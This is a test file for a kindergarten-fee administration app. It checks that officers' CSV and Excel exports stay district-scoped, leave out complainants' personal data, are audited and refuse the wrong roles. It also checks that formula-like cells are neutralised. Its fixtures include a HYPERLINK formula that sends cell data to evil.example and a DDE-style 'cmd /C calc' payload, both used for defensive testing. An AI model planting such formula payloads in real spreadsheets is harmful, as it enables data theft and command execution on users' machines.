/**
 * The CSV and Excel exports of officers' lists, through the built app as a browser downloads them from the list's
 * links: the education office's account review queue (`/officer/accounts/export.csv`, `export.xlsx`) and the complaint
 * queue (`/officer/complaints/export.csv`, `export.xlsx`); the workbooks of the registry (`/officer/kindergartens/
 * export.xlsx`, the import's columns, not audited) and of the bookkeepers' accounts overview (`/officer/operator-accounts/
 * export.xlsx`), beside CSVs tested in registry.test.ts and operator-account-overview.test.ts. The workbook holds the CSV's rows, its identifiers (a
 * digits-only USCC, a last four with a leading zero, a tracking number) as text cells, read back with exceljs. Each holds what its page shows under the same filters (the link carries them;
 * the file's rows are the page's, in its order, every page), only the actor's district, in the reader's language
 * (UTF-8 with a BOM), formula-like cells neutralised, audited; the complaint file never holds a complainant's name,
 * phone, address or narrative. Refused: the wrong role (403), signed out (to the sign-in page), a filter the page
 * would leave out or a search it refuses (400: a file must hold what was asked for).
 */
import ExcelJS from "exceljs";
import Papa from "papaparse";
import { beforeAll, describe, expect, it } from "vitest";
import { commitLang } from "~/web/lang.server";
import { shanghaiDate } from "~/utils/working-days";
import { addBankAccount } from "../factories/bank-accounts";
import { fileComplaint } from "../factories/complaint-handling";
import { demoKindergartenOf } from "../factories/demo-cases";
import { createKindergarten, HAISHU } from "../factories/domain";
import { useBuiltApp } from "../setup/built-app";
import { cookieHeaderFrom } from "../setup/route-helpers";

const app = useBuiltApp();

const BOM = [0xef, 0xbb, 0xbf];
/** Cells a spreadsheet would run as formulas. */
const FORMULA_NAME = '=HYPERLINK("http://evil.example/?"&A1,"点击")';
const FORMULA_ACCOUNT = "@SUM(1+1)*cmd|' /C calc'!A0";
const FORMULA_BANK = "+86-574-12345";

const page = async (path: string, as: string) => {
  const res = await app.get(path, as);
  expect(res.status, path).toBe(200);
  return res.text();
};
/** The file as a browser saves it: its bytes, its text without the BOM, and its rows parsed (header first). */
const download = async (path: string, as: string, cookie?: string) => {
  const res = await app.get(path, as, cookie);
  expect(res.status, `${path}: ${res.status === 200 ? "" : await res.clone().text()}`).toBe(200);
  expect(res.headers.get("Content-Type")).toBe("text/csv; charset=utf-8");
  expect(res.headers.get("Cache-Control")).toBe("private, no-store");
  const bytes = new Uint8Array(await res.arrayBuffer());
  const text = new TextDecoder().decode(bytes);
  const rows = Papa.parse<string[]>(text, { skipEmptyLines: true }).data;
  return { bytes, text, rows, disposition: res.headers.get("Content-Disposition") };
};
const XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet";
/** The workbook as a browser saves it, read back with exceljs: its one sheet's rows as cell values (header first; an empty cell as ""). */
const downloadXlsx = async (path: string, as: string) => {
  const res = await app.get(path, as);
  expect(res.status, `${path}: ${res.status === 200 ? "" : await res.clone().text()}`).toBe(200);
  expect(res.headers.get("Content-Type")).toBe(XLSX);
  expect(res.headers.get("Cache-Control")).toBe("private, no-store");
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(await res.arrayBuffer());
  expect(workbook.worksheets).toHaveLength(1);
  const sheet = workbook.worksheets[0]!;
  const rows: ExcelJS.CellValue[][] = [];
  sheet.eachRow((row) => rows.push(Array.from({ length: sheet.getRow(1).cellCount }, (_, i) => row.getCell(i + 1).value ?? "")));
  return { rows, disposition: res.headers.get("Content-Disposition") };
};
/** The export link on a page, as the browser follows it. */
const exportHref = (html: string, testId: string) => html.match(new RegExp(`<a href="([^"]+)"[^>]*data-testid="${testId}"`))?.[1]?.replaceAll("&amp;", "&") ?? null;
/** The ids a list page links to (`/officer/<list>/<id>`), in its order. */
const linkedIds = (html: string, list: string) => [...html.matchAll(new RegExp(`href="/officer/${list}/([0-9A-Z]{26})"`, "g"))].map((m) => m[1]!);
/** A column of the data rows by its header. */
const column = (rows: string[][], header: string) => {
  const i = rows[0]!.indexOf(header);
  expect(i, header).toBeGreaterThanOrEqual(0);
  return rows.slice(1).map((r) => r[i]!);
};
const auditOf = async (action: "account.export" | "complaint.export" | "user.export_operators") => {
  const rows = await app.db().selectFrom("audit_log").select(["detail", "entity_id"]).where("action", "=", action).orderBy("seq", "desc").execute();
  return rows.map((r) => ({ entityId: r.entity_id, detail: JSON.parse(r.detail) as Record<string, unknown> }));
};
/** No cell of the file starts as a formula would (papaparse's escapeFormulae prefixes them with '). */
const expectNoFormulaCells = (rows: string[][]) => {
  for (const row of rows) for (const cell of row) expect(cell, cell).not.toMatch(/^[=+\-@\t\r]/);
};

describe("the account review queue's CSV", () => {
  let kg004Pending: string;
  let kg010Pending: string;
  let hostileFiling: string;

  beforeAll(async () => {
    const pendingOf = async (username: string) =>
      (
        await app
          .db()
          .selectFrom("bank_accounts")
          .select("id")
          .where("kindergarten_id", "=", await demoKindergartenOf(app.db(), username))
          .where("status", "=", "pending")
          .executeTakeFirstOrThrow()
      ).id;
    kg004Pending = await pendingOf("kg004");
    kg010Pending = await pendingOf("kg010");
    const kg = await createKindergarten(app.db(), { region_code: HAISHU, name: FORMULA_NAME });
    hostileFiling = await addBankAccount(app.db(), kg.id, {
      status: "pending",
      account_name: FORMULA_ACCOUNT,
      bank_name: FORMULA_BANK,
      account_number: "6228480010000009876",
      effective_from: shanghaiDate(),
    });
  });

  it("is linked from the page with its tab and search, and holds the page's rows in its order", async () => {
    const html = await page("/officer/accounts?status=pending", "haishu.edu");
    expect(exportHref(html, "account-queue-export")).toBe("/officer/accounts/export.csv?status=pending");
    expect(exportHref(html, "account-queue-export-xlsx")).toBe("/officer/accounts/export.xlsx?status=pending");
    expect(html).toContain("按当前状态和查找条件导出全部页，最多 50,000 条。");
    const { rows, bytes, disposition } = await download("/officer/accounts/export.csv?status=pending", "haishu.edu");
    expect([...bytes.slice(0, 3)]).toEqual(BOM);
    expect(disposition).toMatch(/^attachment; filename="account-filings-pending-330203-\d{4}-\d{2}-\d{2}\.csv"$/);
    expect(rows[0]!.slice(0, 9)).toEqual(["备案编号", "幼儿园核准名称", "使用名称", "统一社会信用代码", "区县", "开户银行", "账户名称", "账号尾号", "状态"]);
    const ids = column(rows, "备案编号");
    expect(ids).toEqual(linkedIds(html, "accounts"));
    expect(ids).toContain(kg004Pending);
    // Another district's filing is not there, nor is another district named.
    expect(ids).not.toContain(kg010Pending);
    expect(new Set(column(rows, "区县"))).toEqual(new Set(["海曙区"]));
    expect(new Set(column(rows, "状态"))).toEqual(new Set(["待审核"]));

    // The search narrows the file as it narrows the page: the link carries it.
    const kg004 = await app.db().selectFrom("kindergartens").select(["approved_name", "uscc"]).where("id", "=", await demoKindergartenOf(app.db(), "kg004")).executeTakeFirstOrThrow();
    const searched = await page(`/officer/accounts?status=pending&q=${encodeURIComponent(kg004.approved_name)}`, "haishu.edu");
    const href = exportHref(searched, "account-queue-export")!;
    expect(href).toBe(`/officer/accounts/export.csv?status=pending&q=${encodeURIComponent(kg004.approved_name).replaceAll("%20", "+")}`);
    const narrowed = await download(href, "haishu.edu");
    expect(column(narrowed.rows, "备案编号")).toEqual([kg004Pending]);
    expect(column(narrowed.rows, "统一社会信用代码")).toEqual([kg004.uscc]);

    // Another tab: its own rows, not the pending ones.
    const approved = await download("/officer/accounts/export.csv?status=approved", "haishu.edu");
    expect(column(approved.rows, "备案编号")).not.toContain(kg004Pending);
    expect(new Set(column(approved.rows, "状态"))).toEqual(new Set(["已通过"]));
  });

  it("names the account by its last four digits and its days as YYYY-MM-DD, never the whole number", async () => {
    const { rows, text } = await download("/officer/accounts/export.csv?status=pending", "haishu.edu");
    const filing = await app.db().selectFrom("bank_accounts").selectAll().where("id", "=", kg004Pending).executeTakeFirstOrThrow();
    const row = rows.find((r) => r[0] === kg004Pending)!;
    const cell = (header: string) => row[rows[0]!.indexOf(header)];
    expect(cell("账号尾号")).toBe(filing.account_number.slice(-4));
    expect(cell("提交日期")).toBe(shanghaiDate(new Date(filing.filed_at)));
    expect(cell("生效日期")).toBe(filing.effective_from);
    expect(cell("通过后")).not.toBe("");
    expect(text).not.toContain(filing.account_number);
  });

  it("neutralises cells a spreadsheet would run as formulas", async () => {
    const { rows, text } = await download("/officer/accounts/export.csv?status=pending", "haishu.edu");
    const row = rows.find((r) => r[0] === hostileFiling)!;
    expect(row).toBeDefined();
    expect(row).toContain(`'${FORMULA_NAME}`);
    expect(row).toContain(`'${FORMULA_ACCOUNT}`);
    expect(row).toContain(`'${FORMULA_BANK}`);
    expectNoFormulaCells(rows);
    expect(text).not.toMatch(/(^|,)=HYPERLINK/m);
  });

  it("shows another district's office its own filings only", async () => {
    const { rows } = await download("/officer/accounts/export.csv?status=pending", "jiangbei.edu");
    const ids = column(rows, "备案编号");
    expect(ids).toContain(kg010Pending);
    expect(ids).not.toContain(kg004Pending);
    expect(ids).not.toContain(hostileFiling);
    expect(column(rows, "区县")).not.toContain("海曙区");
  });

  it("speaks English to an English reader", async () => {
    const en = cookieHeaderFrom(await commitLang("en"));
    const { rows } = await download("/officer/accounts/export.csv?status=pending", "haishu.edu", en);
    expect(rows[0]!.slice(0, 4)).toEqual(["Filing id", "Kindergarten's approved name", "Name in use", "USCC"]);
    expect(new Set(column(rows, "State"))).toEqual(new Set(["Awaiting review"]));
  });

  it("is audited with its tab and search", async () => {
    const before = (await auditOf("account.export")).length;
    const { rows } = await download("/officer/accounts/export.csv?status=returned&q=%E5%B9%BC%E5%84%BF%E5%9B%AD", "haishu.edu");
    const entries = await auditOf("account.export");
    expect(entries).toHaveLength(before + 1);
    expect(entries[0]).toEqual({ entityId: HAISHU, detail: { format: "csv", filters: { status: "returned", q: "幼儿园" }, rows: rows.length - 1, limited: false, complete: true } });
  });

  it("refuses a bookkeeper and a signed-out visitor, and a filter or search the page would leave out", async () => {
    expect((await app.get("/officer/accounts/export.csv", "kg006")).status).toBe(403);
    const signedOut = await app.get("/officer/accounts/export.csv");
    expect(signedOut.status).toBe(302);
    expect(signedOut.headers.get("Location")).toMatch(/^\/login\?redirectTo=/);
    const bogus = await app.get("/officer/accounts/export.csv?status=bogus", "haishu.edu");
    expect(bogus.status).toBe(400);
    expect(await bogus.text()).toContain("Malformed query parameter: status");
    // Six words: the page shows the tab without them and says so; the file refuses.
    const refused = await app.get(`/officer/accounts/export.csv?status=pending&q=${encodeURIComponent("甲 乙 丙 丁 戊 己")}`, "haishu.edu");
    expect(refused.status).toBe(400);
    expect(await refused.text()).toContain("Malformed query parameter: q");
  });
});

describe("the complaint queue's CSV", () => {
  const CONTACT = { name: "李建国", phone: "13912345678", address: "宁波市海曙区导出测试路8号" };
  const NARRATIVE = "导出测试：九月保教费比公示的多收了四百元。";
  let haishuComplaint: { complaintId: string; trackingNo: string };
  let haishuReport: { complaintId: string; trackingNo: string };
  let jiangbeiComplaint: { complaintId: string; trackingNo: string };
  let hostileComplaint: { complaintId: string; trackingNo: string };
  let kg006: string;

  beforeAll(async () => {
    kg006 = await demoKindergartenOf(app.db(), "kg006");
    haishuComplaint = await fileComplaint(app.db(), { kindergartenId: kg006, contact: CONTACT, narrative: NARRATIVE });
    haishuReport = await fileComplaint(app.db(), { kindergartenId: kg006, track: "report", contact: CONTACT, narrative: NARRATIVE });
    jiangbeiComplaint = await fileComplaint(app.db(), { kindergartenId: await demoKindergartenOf(app.db(), "kg010") });
    const kg = await createKindergarten(app.db(), { region_code: HAISHU, name: FORMULA_NAME });
    hostileComplaint = await fileComplaint(app.db(), { kindergartenId: kg.id });
  });

  it("is linked from the page with its filters, and holds the page's rows in its order", async () => {
    const html = await page("/officer/complaints?state=all&track=complaint", "haishu.market");
    expect(exportHref(html, "complaint-queue-export")).toBe("/officer/complaints/export.csv?state=all&track=complaint");
    expect(exportHref(html, "complaint-queue-export-xlsx")).toBe("/officer/complaints/export.xlsx?state=all&track=complaint");
    expect(html).toContain("不含投诉举报人的姓名和联系方式");
    const { rows, bytes, disposition } = await download("/officer/complaints/export.csv?state=all&track=complaint", "haishu.market");
    expect([...bytes.slice(0, 3)]).toEqual(BOM);
    expect(disposition).toMatch(/^attachment; filename="complaints-330203-\d{4}-\d{2}-\d{2}\.csv"$/);
    expect(rows[0]).toEqual(["受理编号", "记录编号", "幼儿园", "统一社会信用代码", "办理区县", "类别", "问题类型", "状态", "收到日期", "期限类型", "期限届满日", "剩余／超期", "办结日期", "关联检查任务编号"]);
    const ids = column(rows, "记录编号");
    const shown = linkedIds(html, "complaints");
    expect(shown.length).toBeGreaterThan(0);
    expect(ids.slice(0, shown.length)).toEqual(shown);
    expect(ids).toContain(haishuComplaint.complaintId);
    // The track filter: no report.
    expect(ids).not.toContain(haishuReport.complaintId);
    expect(new Set(column(rows, "类别"))).toEqual(new Set(["投诉"]));
    // Another district's complaint is not there.
    expect(ids).not.toContain(jiangbeiComplaint.complaintId);
    expect(new Set(column(rows, "办理区县"))).toEqual(new Set(["海曙区"]));

    const row = rows.find((r) => r[1] === haishuComplaint.complaintId)!;
    const cell = (header: string) => row[rows[0]!.indexOf(header)];
    expect(cell("受理编号")).toBe(haishuComplaint.trackingNo);
    expect(cell("状态")).toBe("待处理");
    expect(cell("收到日期")).toBe(shanghaiDate());
    expect(cell("期限类型")).toBe("受理决定");
    expect(cell("期限届满日")).toMatch(/^\d{4}-\d{2}-\d{2}$/);
    expect(cell("剩余／超期")).toMatch(/^剩 \d+ 个工作日$/);
  });

  it("narrows by kindergarten and report track as the page does", async () => {
    const { rows } = await download(`/officer/complaints/export.csv?state=open&track=report&kg=${kg006}`, "haishu.market");
    const ids = column(rows, "记录编号");
    expect(ids).toContain(haishuReport.complaintId);
    expect(ids).not.toContain(haishuComplaint.complaintId);
    expect(ids).not.toContain(hostileComplaint.complaintId);
    expect(new Set(column(rows, "类别"))).toEqual(new Set(["举报"]));
  });

  it("holds no complainant's name, phone, address or narrative", async () => {
    const { text } = await download("/officer/complaints/export.csv?state=all", "haishu.market");
    expect(text).toContain(haishuComplaint.trackingNo);
    for (const personal of [CONTACT.name, CONTACT.phone, CONTACT.address, NARRATIVE]) expect(text).not.toContain(personal);
    // Nor the demo's complainants'.
    const contacts = await app.db().selectFrom("complaints").select(["contact_name", "contact_phone", "contact_address"]).where("region_code", "=", HAISHU).execute();
    const personal = contacts.flatMap((c) => [c.contact_name, c.contact_phone, c.contact_address]).filter((v): v is string => !!v);
    expect(personal.length).toBeGreaterThan(0);
    for (const value of personal) expect(text).not.toContain(value);
  });

  it("neutralises cells a spreadsheet would run as formulas", async () => {
    const { rows } = await download("/officer/complaints/export.csv?state=all", "haishu.market");
    const row = rows.find((r) => r[1] === hostileComplaint.complaintId)!;
    expect(row).toContain(`'${FORMULA_NAME}`);
    expectNoFormulaCells(rows);
  });

  it("shows another district's office its own complaints only", async () => {
    const { rows } = await download("/officer/complaints/export.csv?state=all", "jiangbei.market");
    const ids = column(rows, "记录编号");
    expect(ids).toContain(jiangbeiComplaint.complaintId);
    for (const id of [haishuComplaint.complaintId, haishuReport.complaintId, hostileComplaint.complaintId]) expect(ids).not.toContain(id);
    expect(column(rows, "办理区县")).not.toContain("海曙区");
  });

  it("is audited with its filters, the kindergarten box's words under the search", async () => {
    const { rows } = await download(`/officer/complaints/export.csv?state=received&kind=above_filed&overdue=1&kg=${encodeURIComponent("幼儿园")}`, "haishu.market");
    const [entry] = await auditOf("complaint.export");
    expect(entry).toEqual({
      entityId: HAISHU,
      detail: { format: "csv", filters: { state: "received", kind: "above_filed", overdue: true, q: "幼儿园" }, rows: rows.length - 1, limited: false, complete: true },
    });
  });

  it("refuses the education office, a bookkeeper, a signed-out visitor, and a filter or search the page would leave out", async () => {
    for (const who of ["haishu.edu", "kg006"]) expect((await app.get("/officer/complaints/export.csv", who)).status, who).toBe(403);
    const signedOut = await app.get("/officer/complaints/export.csv");
    expect(signedOut.status).toBe(302);
    expect(signedOut.headers.get("Location")).toMatch(/^\/login\?redirectTo=/);
    const bogus = await app.get("/officer/complaints/export.csv?state=bogus", "haishu.market");
    expect(bogus.status).toBe(400);
    expect(await bogus.text()).toContain("Malformed query parameter: state");
    const refused = await app.get(`/officer/complaints/export.csv?kg=${encodeURIComponent("甲 乙 丙 丁 戊 己")}`, "haishu.market");
    expect(refused.status).toBe(400);
    expect(await refused.text()).toContain("Malformed query parameter: kg");
  });
});

describe("the Excel workbooks of both lists", () => {
  /** Digits only: a CSV opened in Excel shows it as 9.13302E+17. */
  const NUMERIC_USCC = "913302031234567890";
  let filing: string;
  let complaint: { complaintId: string; trackingNo: string };

  beforeAll(async () => {
    const kg = await createKindergarten(app.db(), { region_code: HAISHU });
    await app.db().updateTable("kindergartens").set({ uscc: NUMERIC_USCC }).where("id", "=", kg.id).execute();
    // A last four with a leading zero: a CSV opened in Excel shows it as 123.
    filing = await addBankAccount(app.db(), kg.id, { status: "pending", account_number: "6228480010000000123", effective_from: shanghaiDate() });
    complaint = await fileComplaint(app.db(), { kindergartenId: kg.id });
  });

  it("holds the account queue's rows with its identifiers as text cells, as the CSV holds them", async () => {
    const { rows, disposition } = await downloadXlsx("/officer/accounts/export.xlsx?status=pending", "haishu.edu");
    expect(disposition).toMatch(/^attachment; filename="account-filings-pending-330203-\d{4}-\d{2}-\d{2}\.xlsx"$/);
    const csv = await download("/officer/accounts/export.csv?status=pending", "haishu.edu");
    expect(rows).toEqual(csv.rows.map((r) => r.map((cell) => cell.replace(/^'(?=[=+\-@])/, ""))));
    const row = rows.find((r) => r[0] === filing)!;
    const cell = (header: string) => row[rows[0]!.indexOf(header)];
    expect(cell("统一社会信用代码")).toBe(NUMERIC_USCC);
    expect(cell("账号尾号")).toBe("0123");
    expect(new Set(rows.slice(1).map((r) => r[4]))).toEqual(new Set(["海曙区"]));
  });

  it("holds the complaint queue's rows with its identifiers as text cells, as the CSV holds them", async () => {
    const { rows, disposition } = await downloadXlsx("/officer/complaints/export.xlsx?state=all", "haishu.market");
    expect(disposition).toMatch(/^attachment; filename="complaints-330203-\d{4}-\d{2}-\d{2}\.xlsx"$/);
    const csv = await download("/officer/complaints/export.csv?state=all", "haishu.market");
    expect(rows).toEqual(csv.rows.map((r) => r.map((cell) => cell.replace(/^'(?=[=+\-@])/, ""))));
    const row = rows.find((r) => r[1] === complaint.complaintId)!;
    expect(row[0]).toBe(complaint.trackingNo);
    expect(row[rows[0]!.indexOf("统一社会信用代码")]).toBe(NUMERIC_USCC);
  });

  it("shows another district's office its own rows only", async () => {
    const accounts = await downloadXlsx("/officer/accounts/export.xlsx?status=pending", "jiangbei.edu");
    expect(accounts.rows.length).toBeGreaterThan(1);
    expect(accounts.rows.map((r) => r[0])).not.toContain(filing);
    expect(accounts.rows.map((r) => r[4])).not.toContain("海曙区");
    const complaints = await downloadXlsx("/officer/complaints/export.xlsx?state=all", "jiangbei.market");
    expect(complaints.rows.map((r) => r[1])).not.toContain(complaint.complaintId);
    expect(complaints.rows.map((r) => r[4])).not.toContain("海曙区");
  });

  it("is audited as the CSV is, with its format", async () => {
    const accounts = await downloadXlsx("/officer/accounts/export.xlsx?status=pending", "haishu.edu");
    expect((await auditOf("account.export"))[0]).toEqual({
      entityId: HAISHU,
      detail: { format: "xlsx", filters: { status: "pending" }, rows: accounts.rows.length - 1, limited: false, complete: true },
    });
    const complaints = await downloadXlsx("/officer/complaints/export.xlsx?state=all", "haishu.market");
    expect((await auditOf("complaint.export"))[0]).toEqual({
      entityId: HAISHU,
      detail: { format: "xlsx", filters: { state: "all", overdue: false }, rows: complaints.rows.length - 1, limited: false, complete: true },
    });
  });

  it("refuses the wrong role and a filter the page would leave out, as the CSV does", async () => {
    expect((await app.get("/officer/accounts/export.xlsx", "kg006")).status).toBe(403);
    for (const who of ["haishu.edu", "kg006"]) expect((await app.get("/officer/complaints/export.xlsx", who)).status, who).toBe(403);
    const bogus = await app.get("/officer/accounts/export.xlsx?status=bogus", "haishu.edu");
    expect(bogus.status).toBe(400);
    expect(await bogus.text()).toContain("Malformed query parameter: status");
    const refused = await app.get(`/officer/complaints/export.xlsx?kg=${encodeURIComponent("甲 乙 丙 丁 戊 己")}`, "haishu.market");
    expect(refused.status).toBe(400);
  });
});

describe("the Excel workbooks of the registry and the bookkeepers' accounts overview", () => {
  /** Digits only: a CSV opened in Excel shows it as 9.13302E+17. */
  const NUMERIC_USCC = "913302039876543210";
  /** The CSV's rows as the workbook holds them: a formula-like cell unescaped (the workbook's text cell is no formula). */
  const unescaped = (rows: string[][]) => rows.map((r) => r.map((cell) => cell.replace(/^'(?=[=+\-@])/, "")));
  let kg: { id: string };

  beforeAll(async () => {
    kg = await createKindergarten(app.db(), { region_code: HAISHU });
    await app.db().updateTable("kindergartens").set({ uscc: NUMERIC_USCC }).where("id", "=", kg.id).execute();
  });

  it("links both beside the CSV, the overview's with the page's filters", async () => {
    expect(exportHref(await page("/officer/kindergartens", "haishu.edu"), "registry-export-xlsx")).toBe("/officer/kindergartens/export.xlsx");
    expect(exportHref(await page("/officer/operator-accounts?state=none", "haishu.edu"), "account-overview-export-xlsx")).toBe("/officer/operator-accounts/export.xlsx?state=none");
  });

  it("holds the registry's rows in the import's columns, the USCC and region code as text cells, as the CSV holds them", async () => {
    const { rows, disposition } = await downloadXlsx("/officer/kindergartens/export.xlsx", "haishu.edu");
    expect(disposition).toMatch(/^attachment; filename="kindergarten-registry-330203-\d{4}-\d{2}-\d{2}\.xlsx"$/);
    const csv = await download("/officer/kindergartens/export.csv", "haishu.edu");
    expect(rows).toEqual(unescaped(csv.rows));
    expect(rows[0]).toEqual(["uscc", "approved_name", "name_in_use", "nature", "grade", "region_code", "address", "status"]);
    expect(rows.find((r) => r[0] === NUMERIC_USCC)).toBeDefined();
    expect(new Set(rows.slice(1).map((r) => r[5]))).toEqual(new Set([HAISHU]));
  });

  it("holds the overview's rows, the USCC a text cell, the counts numbers, audited as the CSV is, with its format", async () => {
    const { rows, disposition } = await downloadXlsx("/officer/operator-accounts/export.xlsx", "haishu.edu");
    expect(disposition).toMatch(/^attachment; filename="operator-accounts-330203-\d{4}-\d{2}-\d{2}\.xlsx"$/);
    expect((await auditOf("user.export_operators"))[0]).toEqual({
      entityId: HAISHU,
      detail: { format: "xlsx", filters: {}, via: "officer", rows: rows.length - 1, limited: false, complete: true },
    });
    const csv = await download("/officer/operator-accounts/export.csv", "haishu.edu");
    expect(rows.map((r) => r.map(String))).toEqual(unescaped(csv.rows));
    const row = rows.find((r) => r[0] === NUMERIC_USCC)!;
    expect(row[rows[0]!.indexOf("账户数")]).toBe(0);
  });

  it("shows another district's office its own rows only, and refuses the wrong role", async () => {
    const registry = await downloadXlsx("/officer/kindergartens/export.xlsx", "jiangbei.edu");
    expect(registry.rows.length).toBeGreaterThan(1);
    expect(registry.rows.map((r) => r[0])).not.toContain(NUMERIC_USCC);
    expect(registry.rows.map((r) => r[5])).not.toContain(HAISHU);
    const overview = await downloadXlsx("/officer/operator-accounts/export.xlsx?region=330203", "jiangbei.edu");
    expect(overview.rows.map((r) => r[0])).not.toContain(NUMERIC_USCC);
    expect(overview.rows.map((r) => r[2])).not.toContain("海曙区");
    for (const who of ["haishu.market", "kg006"]) {
      expect((await app.get("/officer/kindergartens/export.xlsx", who)).status, who).toBe(403);
      expect((await app.get("/officer/operator-accounts/export.xlsx", who)).status, who).toBe(403);
    }
  });
});
